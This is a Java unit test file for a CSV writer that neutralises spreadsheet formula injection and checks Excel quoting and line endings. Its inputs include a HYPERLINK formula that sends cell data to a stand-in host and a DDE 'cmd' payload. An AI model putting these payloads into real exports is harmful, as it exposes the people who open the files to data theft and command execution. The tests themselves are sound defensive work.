package org.khanaen.platform.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;

import org.junit.jupiter.api.Test;

class SpreadsheetCsvTests {

    @Test
    void everyCellThatWouldRunAsAFormulaBecomesText() {
        assertThat(SpreadsheetCsv.neutralise("=HYPERLINK(\"http://x\"&A1,\"x\")")).isEqualTo("'=HYPERLINK(\"http://x\"&A1,\"x\")");
        assertThat(SpreadsheetCsv.neutralise("+66 81 234 5678")).isEqualTo("'+66 81 234 5678");
        assertThat(SpreadsheetCsv.neutralise("-1+1")).isEqualTo("'-1+1");
        assertThat(SpreadsheetCsv.neutralise("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(SpreadsheetCsv.neutralise("\t=1")).isEqualTo("'\t=1");
        assertThat(SpreadsheetCsv.neutralise("\r=1")).isEqualTo("'\r=1");
    }

    @Test
    void namesAndPlainNumbersStayAsTheyAre() {
        assertThat(SpreadsheetCsv.neutralise("สมชาย ใจดี")).isEqualTo("สมชาย ใจดี");
        assertThat(SpreadsheetCsv.neutralise("-1234.50")).isEqualTo("-1234.50");
        assertThat(SpreadsheetCsv.neutralise("")).isEmpty();
        assertThat(SpreadsheetCsv.neutralise(null)).isNull();
    }

    @Test
    void rowsAreWrittenWithExcelsQuotingAndCrlfAfterAnOptionalByteOrderMark() {
        StringWriter out = new StringWriter();
        SpreadsheetCsv csv = SpreadsheetCsv.open(out, true, "name", "amount");
        csv.row("=cmd|' /C calc'!A0", -100);
        csv.row("a, \"b\"", 5);
        csv.flush();
        assertThat(out.toString()).isEqualTo("\uFEFFname,amount\r\n'=cmd|' /C calc'!A0,-100\r\n\"a, \"\"b\"\"\",5\r\n");
    }
}
